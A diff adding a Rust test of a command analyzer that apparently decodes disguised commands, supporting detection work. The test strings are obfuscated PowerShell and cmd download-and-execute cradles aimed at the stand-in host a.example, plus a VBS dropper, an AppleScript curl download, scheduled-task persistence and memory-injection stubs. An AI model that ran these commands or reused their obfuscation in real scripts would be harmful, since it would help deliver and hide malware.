@@ -235,6 +235,78 @@ fn scripts_of_powershell() {
 }
 
 #[test]
+fn disguises_that_are_common() {
+    check(&[
+        (
+            "powershell -c \"$w=New-Object Net.WebClient;$u='http://a.example/1@http://b.example/2'.Split('@');foreach($i in $u){try{$w.DownloadFile($i,'a.exe');Invoke-Item 'a.exe';break;}catch{}}\"",
+            &["Download http://a.example/1 → a.exe", "Run a.exe", "Download http://b.example/2 → a.exe"],
+        ),
+        (
+            "powershell -c \"[string]::Join('', ('63 61 6c 63' -split ' ' | %{[char][convert]::ToInt32($_,16)}))|iex\"",
+            &["Run calc"],
+        ),
+        ("powershell -c \"sv x 'calc'; iex (gv x -valueonly)\"", &["Run calc"]),
+        ("powershell -c \"sv x ('ca'+'lc'); iex (ls variable:x).value\"", &["Run calc"]),
+        ("powershell -c \"${`a}='ca';iex ${`a}lc\"", &["Run calc"]),
+        (
+            "powershell -c \"'124X126Y115Z124'.Split('XYZ')|%{[char]([int]$_ -bxor 0x1F)}|%{$s+=$_};iex $s\"",
+            &["Run calc"],
+        ),
+        ("powershell -c \"iex (-join ('clac'[-1..-4]))\"", &["Run calc"]),
+        ("powershell -c '\"$([char]99)alc\"|iex'", &[]),
+        (
+            "powershell -c \"$wc=New-Object System.Net.WebClient;$wc.Headers.Add('a','b');[Net.ServicePointManager]::SecurityProtocol=[Net.SecurityProtocolType]::Tls12;$wc.Proxy=[Net.WebRequest]::GetSystemWebProxy();$wc.Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;IEX $wc.downloadstring('http://a.example/s')\"",
+            &["Fetch http://a.example/s", "Run http://a.example/s"],
+        ),
+        (
+            "powershell (New-Object System.Net.WebClient).DownloadFile('http://a.example/a.exe',$env:Temp+'\\a.exe');(New-Object -com Shell.Application).ShellExecute($env:Temp+'\\a.exe')",
+            &["Download http://a.example/a.exe → %TEMP%\\a.exe", "Run %TEMP%\\a.exe"],
+        ),
+        (
+            "powershell Start-Process -WindowStyle hidden -FilePath calc.exe -ArgumentList '/x','/y'",
+            &["Run calc.exe /x /y"],
+        ),
+        (
+            "powershell -c \"iex(iwr http://a.example/z -UseBasicParsing).Content\"",
+            &["Fetch http://a.example/z", "Run http://a.example/z"],
+        ),
+        ("powershell -c \"$c={iex $args[0]};&$c 'calc'\"", &["Run calc"]),
+        ("powershell -c \"&{calc}\"", &["Run calc"]),
+        (
+            "powershell -c \"if($PSVersionTable.PSVersion.Major -ge 3){calc}else{notepad2}\"",
+            &["Run calc", "Run notepad2"],
+        ),
+        ("powershell -c \"$s=@'\nca\n'@+'lc'; iex $s\"", &["Run calc"]),
+        ("powershell -c \"iex ('caZlc' -creplace 'Z',[string][char]0x2e).Replace('.','')\"", &["Run calc"]),
+        ("cmd /V/C\"set x=calc&&echo !x!|cmd\"", &["Run calc"]),
+        ("cmd /c start /min \"\" powershell -c calc", &["Run calc"]),
+        (
+            "cmd /c \"for /f \"tokens=*\" %i in ('curl -s http://a.example/x') do %i\"",
+            &["Fetch http://a.example/x", "Run …"],
+        ),
+        (
+            "cmd /c echo a=1>>a.vbs&echo CreateObject(\"WScript.Shell\").Run \"calc.exe\">>a.vbs&wscript a.vbs",
+            &["Write a.vbs", "Run a.vbs", "Run calc.exe"],
+        ),
+        ("cmd /c \"set a=pow& set b=ershell& call %a%%b% -c calc\"", &["Run powershell -c calc", "Run calc"]),
+        ("cmd /c set x=cXalc& call %x:X=%", &["Run calc"]),
+        ("rundll32.exe C:\\ProgramData\\a.dat #1", &["Load C:\\ProgramData\\a.dat,#1"]),
+        (
+            "tell application \"Finder\"\rdo shell script \"curl -o /tmp/a http://a.example/a; chmod +x /tmp/a\"\rend tell",
+            &["Download http://a.example/a → /tmp/a", "Run /tmp/a"],
+        ),
+        (
+            "powershell -c \"Register-ScheduledTask -TaskName u -Action (New-ScheduledTaskAction -Execute 'calc.exe' -Argument '/q')\"",
+            &["Persist calc.exe /q", "Run calc.exe /q"],
+        ),
+        (
+            "powershell -c \"Add-Type -MemberDefinition '[DllImport(\"kernel32.dll\")] public static extern IntPtr VirtualAlloc();' -Name a\"",
+            &["Inject Add-Type DllImport"],
+        ),
+    ]);
+}
+
+#[test]
 fn encoded_commands_and_packed_streams() {
     let script = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/p')";
     for switch in ["-e", "-ec", "-en", "-enc", "-EncodedCommand", "/e", "\u{2013}enc", "-eNco"] {
